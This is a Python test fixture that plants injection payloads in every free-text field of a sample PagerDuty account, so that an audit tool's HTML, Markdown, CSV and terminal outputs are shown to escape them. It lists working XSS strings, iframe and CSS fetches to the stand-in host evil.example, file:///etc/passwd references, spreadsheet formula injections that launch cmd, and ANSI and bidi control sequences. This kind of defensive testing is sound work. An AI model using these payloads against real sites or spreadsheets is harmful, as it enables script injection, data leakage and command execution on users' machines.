"""The hostile Acme: every free-text field PagerDuty lets a user set carries an attack payload.

``PAYLOADS`` is the catalogue (markup and script, CSS that fetches, local-file and
off-site links, Markdown that links, pictures or mentions, XML breakers, control
characters, bidi overrides, spreadsheet formulas). ``hostile_acme`` plants them in the
bundled Acme account. The names that matter are planted on objects that *fail* rules
(``PLANTED`` says which object carries which payload and which rule it fails), so the
payloads reach findings, their messages and every output format; the rest (layer names,
job titles, contact-method labels, descriptions, business services) ride along to prove
that fields no output shows cannot break the pipeline either.

``earlier_hostile_acme`` is the same account a week before: the hostile-named Payments
policy still had one level (fixed since), and Gift Cards still had one owner (broken
since), so diffs, history and the check's baseline name hostile objects too.
"""

from __future__ import annotations

import copy
import dataclasses
from typing import Any

EVIL = "http://evil.example"

PAYLOADS: dict[str, str] = {
    # HTML: script, event handlers, breakouts from <title>, <style>, attributes and <textarea>
    "script": '<script>alert("script")</script>',
    "img_onerror": '"><img src=x onerror=alert("img")>',
    "svg_onload": "<svg onload=alert('svg')>",
    "title_breakout": '</title><script>alert("title")</script>',
    "style_breakout": '</style><script>alert("style")</script>',
    "attribute_breakout": "' onmouseover='alert(\"attr\")' x='",
    "iframe": f'<iframe src="{EVIL}/frame"></iframe>',
    "object": f'<object data="{EVIL}/object.swf"></object><base href="{EVIL}/">',
    # CSS and elements that fetch: url(), @import, local files, off-site and javascript: links
    "css_url": f'<div style="background:url({EVIL}/css.png)">styled</div>',
    "css_import": f"<style>@import url({EVIL}/import.css);</style>",
    "file_img": '<img src="file:///etc/passwd">',
    "http_link": f'<a href="{EVIL}/phish">sign in</a>',
    "javascript_link": "<a href=\"javascript:alert('js')\">runbook</a>",
    "bare_urls": f"file:///etc/passwd {EVIL}/bare javascript:alert(1)",
    # Markdown: links, pictures, mentions, table cells, emphasis
    "md_link": f"[open the runbook]({EVIL}/md)",
    "md_image": f"![pixel]({EVIL}/pixel.png)",
    "md_mention": "@acme/everyone",
    "md_table": "Cart | Service | injected cell",
    "md_emphasis": "**bold** _em_ `code` # heading",
    # XML and JSON breakers
    "xml_breakers": "]]> & &amp; <!-- <![CDATA[ x",
    # Control characters: C0 (incl. NUL, BEL, BS, VT, FF), DEL, ANSI colour, OSC 8 hyperlink, C1 CSI
    "c0_controls": "nul\x00 bel\x07 bs\x08 vt\x0b ff\x0c del\x7f",
    "ansi": f"\x1b[31mred\x1b[0m \x1b]8;;{EVIL}/osc\x07osc link\x1b]8;;\x07 \x9b2J",
    "line_separator": "one\u2028two\u2029three",
    "bidi": "invoice\u202egnp.exe",
    # Spreadsheet formulas: =, +, -, @, tab and carriage return at the start of a cell
    "csv_equals": f'=HYPERLINK("{EVIL}/csv","Gift Cards")',
    "csv_plus": "+1+cmd|' /C calc'!A0",
    "csv_minus": "-2+3+cmd|' /C calc'!A0",
    "csv_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv_tab": "\t=1+1",
    "csv_cr": "\r=1+1",
    # ...and mid-cell: a bare CR that a CSV writer leaves unquoted starts a new row, and so a formula
    "csv_row_break": "Ops\r=1+1+cmd|' /C calc'!A0",
}


@dataclasses.dataclass(frozen=True)
class Plant:
    """One payload in one object's name: ``name`` is what the object is called in the hostile account."""

    payload: str  # a key of PAYLOADS
    collection: str  # the account file's list
    object_id: str
    rule: str  # a rule the object fails in Acme (examples/acme/PLANTED.md), so its name reaches findings
    suffix: str  # the object's real name, after the payload (spreadsheet formulas must open the cell)

    @property
    def name(self) -> str:
        return f"{PAYLOADS[self.payload]} {self.suffix}"


# Broken since the earlier crawl: Gift Cards had one owning team then.
NEWLY_BROKEN = Plant("csv_equals", "services", "PSVC013", "OWN-01", "Gift Cards")

# The Search team fails nothing itself: its name reaches findings only in Search Indexer's
# OWN-03/OWN-04 messages ("... members of <team names>").
PLANTED_IN_MESSAGES_ONLY = Plant("c0_controls", "teams", "PTEAM03", "OWN-04", "Search")

PLANTED: tuple[Plant, ...] = (
    NEWLY_BROKEN,
    Plant("csv_at", "services", "PSVC027", "OWN-01", "Legacy Reporting Export"),
    Plant("script", "services", "PSVC029", "OWN-08", "ML Feature Store"),
    Plant("img_onerror", "services", "PSVC018", "SVC-02", "Recommendations"),
    Plant("csv_plus", "services", "PSVC034", "SVC-01", "Android App Backend"),
    Plant("csv_minus", "services", "PSVC012", "SVC-04", "Tax Calculation"),
    Plant("csv_tab", "services", "PSVC031", "SVC-04", "iOS App Backend"),
    Plant("csv_cr", "services", "PSVC028", "SVC-07", "Event Stream Archiver"),
    Plant("md_link", "services", "PSVC044", "SVC-07", "Carrier Label Printing"),
    Plant("md_image", "services", "PSVC042", "OC-01", "Pick and Pack API"),
    Plant("md_table", "services", "PSVC009", "SVC-08", "Cart Service"),
    Plant("md_mention", "services", "PSVC040", "OC-01", "Dock Scheduling"),
    Plant("title_breakout", "services", "PSVC005", "OWN-06", "Payout Scheduler"),
    Plant("style_breakout", "services", "PSVC017", "OWN-07", "Datadog Alerts"),
    Plant("css_url", "services", "PSVC037", "SVC-03", "Partner SSO"),
    Plant("xml_breakers", "teams", "PTEAM09", "OWN-02", "Returns"),
    Plant("ansi", "teams", "PTEAM07", "OC-08", "Identity"),
    Plant("csv_row_break", "teams", "PTEAM04", "OC-12", "Platform SRE"),
    Plant("file_img", "teams", "PTEAM01", "OWN-01", "Payments"),  # named in Gift Cards' OWN-01 message
    Plant("bidi", "teams", "PTEAM02", "OWN-01", "Checkout"),  # ditto
    PLANTED_IN_MESSAGES_ONLY,
    Plant("svg_onload", "users", "PUSR053", "RCH-02", "Stefan Keller"),
    Plant("javascript_link", "users", "PUSR009", "RCH-01", "Marcus Reid"),
    Plant("http_link", "users", "PUSR017", "RCH-03", "Arjun Mehta"),
    Plant("css_import", "schedules", "PSCH017", "OC-03", "Data leadership"),
    Plant("bare_urls", "schedules", "PSCH026", "OC-05", "Warehouse scanners daily"),
    Plant("line_separator", "schedules", "PSCH012", "OC-11", "Search shadow rotation"),
    Plant("iframe", "escalation_policies", "PEP0013", "ESC-01", "Legacy reporting (Robert)"),
    Plant("attribute_breakout", "escalation_policies", "PEP0019", "ESC-04", "Warehouse scanners"),
    Plant("md_emphasis", "escalation_policies", "PEP0008", "ESC-06", "Search - relevance"),
)

# Fixed since the earlier crawl: the policy failed ESC-01 then, so its name reaches the
# check's "fixed" entries (read from the baseline) and the diff's fixed findings.
FIXED_POLICY = Plant("object", "escalation_policies", "PEP0001", "ESC-01", "Payments policy")

# Free text no output shows today: it must still pass through crawl, facts and rules.
DESCRIPTION = (f"{PAYLOADS['css_import']}{PAYLOADS['script']} Settles card payments; see "
               f"{PAYLOADS['bare_urls']} {PAYLOADS['javascript_link']} {PAYLOADS['md_link']}")
# Service descriptions with no http(s) link, so OWN-06 judges them exactly as before.
LINKLESS_DESCRIPTION = ("</textarea>" + PAYLOADS["title_breakout"] + PAYLOADS["file_img"]
                        + " Schedules merchant and carrier payouts nightly; see file:///etc/passwd "
                        + "and javascript:alert(1) " + PAYLOADS["c0_controls"])
HOSTILE_DESCRIPTION = DESCRIPTION  # Payment Ledger's: its runbook link stays, so nothing else changes


def _by_id(objects: list[dict[str, Any]], object_id: str) -> dict[str, Any]:
    return next(o for o in objects if o["id"] == object_id)


def _rename(account: dict[str, Any], plant: Plant) -> None:
    _by_id(account[plant.collection], plant.object_id)["name"] = plant.name


def _cycle(keys: list[str], index: int) -> str:
    return PAYLOADS[keys[index % len(keys)]]


def _hostile_free_text(account: dict[str, Any]) -> None:
    """Job titles, contact-method labels, layer and rotation names, descriptions, business services."""
    keys = sorted(PAYLOADS)
    for number, user in enumerate(account["users"]):
        user["job_title"] = _cycle(keys, number)
        user["description"] = _cycle(keys, number + 1)
        for method in user["contact_methods"]:
            method["label"] = _cycle(keys, number + 2)
            if method["type"] == "email_contact_method":  # the address is free text too
                method["address"] = f'"{_cycle(keys, number + 3)}"@evil.example'
    for number, schedule in enumerate(account["schedules"]):
        schedule["description"] = _cycle(keys, number)
        for layer in schedule["schedule_layers"]:
            layer["name"] = _cycle(keys, number + 1)
    for number, schedule in enumerate(account["schedules_v3"]):
        schedule["description"] = _cycle(keys, number)
        for rotation in schedule.get("rotations", []):
            rotation["name"] = _cycle(keys, number + 1)
    for number, policy in enumerate(account["escalation_policies"]):
        policy["description"] = _cycle(keys, number)
    for number, team in enumerate(account["teams"]):
        team["description"] = _cycle(keys, number)
    for number, business in enumerate(account["business_services"]):
        business["name"] = _cycle(keys, number) + " " + business["name"]
        business["description"] = DESCRIPTION
        business["point_of_contact"] = _cycle(keys, number + 1)
    for integration in (i for s in account["services"] for i in s.get("integrations", [])):
        integration["name"] = PAYLOADS["md_link"] + " " + integration.get("name", "")
    _by_id(account["services"], "PSVC002")["description"] += " " + HOSTILE_DESCRIPTION
    _by_id(account["services"], "PSVC005")["description"] = LINKLESS_DESCRIPTION


def hostile_acme(account: dict[str, Any]) -> dict[str, Any]:
    """A copy of the Acme account with payloads in every free-text field (see the module docstring)."""
    hostile = copy.deepcopy(account)
    _hostile_free_text(hostile)
    for plant in (*PLANTED, FIXED_POLICY):
        _rename(hostile, plant)
    return hostile


def earlier_hostile_acme(account: dict[str, Any]) -> dict[str, Any]:
    """The hostile Acme a week earlier: the Payments policy had one level, Gift Cards one owner."""
    earlier = hostile_acme(account)
    del _by_id(earlier["escalation_policies"], FIXED_POLICY.object_id)["escalation_rules"][1:]
    _by_id(earlier["services"], NEWLY_BROKEN.object_id)["teams"] = [{"id": "PTEAM02", "type": "team_reference"}]
    return earlier
